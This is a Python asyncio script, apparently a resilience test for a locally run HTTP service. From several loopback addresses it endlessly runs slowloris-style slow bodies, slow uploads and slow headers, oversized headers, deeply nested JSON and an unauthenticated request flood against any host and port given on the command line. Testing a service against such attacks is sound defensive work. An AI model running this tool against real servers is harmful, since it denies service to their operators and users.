"""Clients without a key that mean no good, from several addresses at once: python -m … HOST PORT, for ever."""

from __future__ import annotations

import asyncio
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress

ADDRESSES = [f"127.0.0.{number}" for number in range(11, 17)]
FLOOD_PAUSE_S = 0.02
"""Between the requests of one flood: this process shares the machine with the service, and must leave it some."""
REFUSED_PAUSE_S = 1.0
"""Before an attack begins anew that was refused or broken off."""
_HEAD = b" HTTP/1.1\r\nHost: localhost\r\n"
_NESTED = b"[" * 65536

Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


async def slow_body(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A byte a second of a body that is said to have many, to the one route that needs no key."""
    writer.write(b"POST /v1/session" + _HEAD + b"Content-Type: application/json\r\nContent-Length: 4000\r\n\r\n")
    while True:
        writer.write(b" ")
        await writer.drain()
        await asyncio.sleep(1)


async def slow_upload(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """The same to a search, with a megabyte at once to hold memory."""
    writer.write(
        b"POST /v1/search" + _HEAD + b"Content-Type: image/png\r\nContent-Length: 8000000\r\n\r\n" + bytes(2**20)
    )
    while True:
        writer.write(b"\0")
        await writer.drain()
        await asyncio.sleep(1)


async def slow_head(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A header a second, for ever."""
    writer.write(b"GET /v1/images" + _HEAD)
    while True:
        writer.write(b"X: y\r\n")
        await writer.drain()
        await asyncio.sleep(1)


async def big_head(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Headers of eight megabytes."""
    writer.write(b"GET /v1/images" + _HEAD + b"X: ")
    for _ in range(128):
        writer.write(b"x" * 65536)
        await writer.drain()


async def nested_json(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Sixteen megabytes of brackets as a key to sign in with."""
    writer.write(b"POST /v1/session" + _HEAD + b"Content-Type: application/json\r\nContent-Length: 16777216\r\n\r\n")
    for _ in range(256):
        writer.write(_NESTED)
        await writer.drain()


async def flood(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Requests without a key, one after the other."""
    while True:
        writer.write(b"GET /v1/images?limit=100" + _HEAD + b"\r\n")
        await writer.drain()
        if not await reader.read(65536):
            return
        await asyncio.sleep(FLOOD_PAUSE_S)


ATTACKS: dict[Attack, int] = {slow_body: 8, slow_upload: 8, slow_head: 8, big_head: 1, nested_json: 1, flood: 1}
"""How many of each an address has open at any moment."""


async def again_and_again(attack: Attack, host: str, port: int, address: str) -> None:
    """A new connection some time after the last one is ended."""
    while True:
        with suppress(OSError):
            reader, writer = await asyncio.open_connection(host, port, local_addr=(address, 0))
            try:
                await attack(reader, writer)
            finally:
                writer.close()
        await asyncio.sleep(FLOOD_PAUSE_S if attack is flood else REFUSED_PAUSE_S)


async def attack_from_everywhere(host: str, port: int) -> None:
    """All attacks from all addresses."""
    async with asyncio.TaskGroup() as group:
        for address in ADDRESSES:
            for attack, connections in ATTACKS.items():
                for _ in range(connections):
                    group.create_task(again_and_again(attack, host, port, address))


if __name__ == "__main__":
    asyncio.run(attack_from_everywhere(sys.argv[1], int(sys.argv[2])))
